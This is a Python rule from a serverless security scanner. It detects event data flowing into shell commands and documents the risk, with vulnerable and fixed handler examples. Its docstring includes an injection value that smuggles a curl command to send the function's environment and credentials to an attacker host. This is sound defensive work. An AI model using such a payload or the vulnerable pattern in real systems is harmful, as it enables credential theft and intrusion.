"""LS501 shell-command-injection: event data reaching a shell command."""

from __future__ import annotations

from collections.abc import Iterator

from lambdasec.findings import Category, Finding, Severity, Standards
from lambdasec.model import Inventory, SinkKind, SourceKind, Taint
from lambdasec.rules._api import RuleContext, Scope, inventory_rule
from lambdasec.rules.code._flows import injection_message, report_flows


@inventory_rule(
    id="LS501",
    name="shell-command-injection",
    severity=Severity.CRITICAL,
    category=Category.CODE,
    cwe=("CWE-78",),
    scope=Scope.CODE_UNITS,
    sources=frozenset({SourceKind.CODE}),
    standards=Standards(owasp_serverless=("SAS-1",), practice="input validation"),
)
def shell_command_injection(inv: Inventory, ctx: RuleContext) -> Iterator[Finding]:
    """
    ## What it does
    Flags handler code that builds a shell command from event data an invoker controls: `subprocess`
    calls with `shell=True` or a command string, `os.system`, `os.popen`, Node's `child_process.exec`
    / `execSync` and `spawn` with `shell: true`. The finding carries the trace from the event field to
    the call, across helper functions of the package.

    ## Why is this bad?
    A value such as `x; curl https://attacker.example/$(cat /proc/self/environ | base64)` runs the
    attacker's commands inside the execution environment, with the function's temporary AWS
    credentials in its environment: the attacker gets everything the execution role may do, can read
    the code and the `/tmp` of a reused environment, and can tamper with later invocations.

    ## Example
    ### Code
    ```python
    def handler(event, context):
        name = event["queryStringParameters"]["name"]
        subprocess.run(f"convert {name} out.png", shell=True)
    ```

    ```javascript
    export const handler = async (event) => {
      execSync(`convert ${event.queryStringParameters.name} out.png`);
    };
    ```

    Use instead:

    ```python
    def handler(event, context):
        name = event["queryStringParameters"]["name"]
        subprocess.run(["convert", name, "out.png"], check=True)  # no shell, one argument
    ```

    ```javascript
    export const handler = async (event) => {
      execFileSync("convert", [event.queryStringParameters.name, "out.png"]);
    };
    ```

    Pass the command as a list of arguments without a shell; when a shell is unavoidable, quote each
    value (`shlex.quote`) and check it against an allow-list first.

    ## Known problems
    A command assembled through a call the analysis cannot see into is reported with medium
    confidence. Sanitizers other than `shlex.quote`, numeric conversion and allow-list checks are not
    recognised, so a value validated by custom code is still reported.

    ## References
    - CWE-78: Improper Neutralization of Special Elements used in an OS Command,
      https://cwe.mitre.org/data/definitions/78.html
    - OWASP Serverless Top 10 (SAS-1 Injection),
      https://owasp.org/www-project-serverless-top-10/
    - Python documentation: subprocess security considerations,
      https://docs.python.org/3/library/subprocess.html#security-considerations
    """
    yield from report_flows(
        inv,
        ctx,
        sink=SinkKind.SHELL,
        taints=frozenset({Taint.EVENT}),
        message=injection_message("shell command"),
    )
